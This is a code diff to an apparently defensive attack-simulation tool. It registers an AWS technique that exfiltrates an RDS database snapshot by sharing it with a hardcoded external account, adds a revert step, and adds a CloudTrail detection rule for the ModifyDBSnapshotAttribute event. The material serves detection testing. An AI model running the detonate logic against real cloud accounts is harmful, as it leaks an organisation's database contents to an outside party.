@@ -16,12 +16,19 @@ var tf []byte
 
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
-		ID:                 "aws.exfiltration.rds-share-snapshot",
-		FriendlyName:       "Exfiltrate RDS Snapshot by Sharing",
-		Platform:           stratus.AWS,
-		IsSlow:             true,
-		IsIdempotent:       true,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Exfiltration},
+		ID:                    "aws.exfiltration.rds-share-snapshot",
+		FriendlyName:          "Exfiltrate RDS Snapshot by Sharing",
+		Platform:              stratus.AWS,
+		IsSlow:                true,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Exfiltration},
+		MitreAttackTechniques: []string{"T1537"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"rds.amazonaws.com"}, "eventName": {"ModifyDBSnapshotAttribute"}, "requestParameters.attributeName": {"restore"}},
+			},
+			FalsePositives: []string{"RDS snapshots shared with known accounts of the organization"},
+		},
 		FrameworkMappings: []stratus.FrameworkMappings{
 			{
 				Framework: stratus.ThreatTechniqueCatalogAWS,
@@ -61,19 +68,19 @@ Through CloudTrail's <code>ModifyDBSnapshotAttribute</code> event, when both:
 An attacker can also make an RDS snapshot completely public. In this case, the value of <code>valuesToAdd</code> is <code>["all"]</code>.
 `,
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
 var AccountIdToShareWith = []string{"193672423079"}
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	snapshotId := params["snapshot_id"]
 	rdsClient := rds.NewFromConfig(providers.AWS().GetConnection())
 
 	log.Println("Sharing RDS Snapshot " + snapshotId + " with an external AWS account")
-	_, err := rdsClient.ModifyDBSnapshotAttribute(context.Background(), &rds.ModifyDBSnapshotAttributeInput{
+	_, err := rdsClient.ModifyDBSnapshotAttribute(ctx, &rds.ModifyDBSnapshotAttributeInput{
 		DBSnapshotIdentifier: &snapshotId,
 		AttributeName:        aws.String("restore"),
 		ValuesToAdd:          AccountIdToShareWith,
@@ -86,12 +93,12 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	snapshotId := params["snapshot_id"]
 	rdsClient := rds.NewFromConfig(providers.AWS().GetConnection())
 
 	log.Println("Un-sharing RDS Snapshot " + snapshotId + " with an external AWS account")
-	_, err := rdsClient.ModifyDBSnapshotAttribute(context.Background(), &rds.ModifyDBSnapshotAttributeInput{
+	_, err := rdsClient.ModifyDBSnapshotAttribute(ctx, &rds.ModifyDBSnapshotAttributeInput{
 		DBSnapshotIdentifier: &snapshotId,
 		AttributeName:        aws.String("restore"),
 		ValuesToRemove:       AccountIdToShareWith,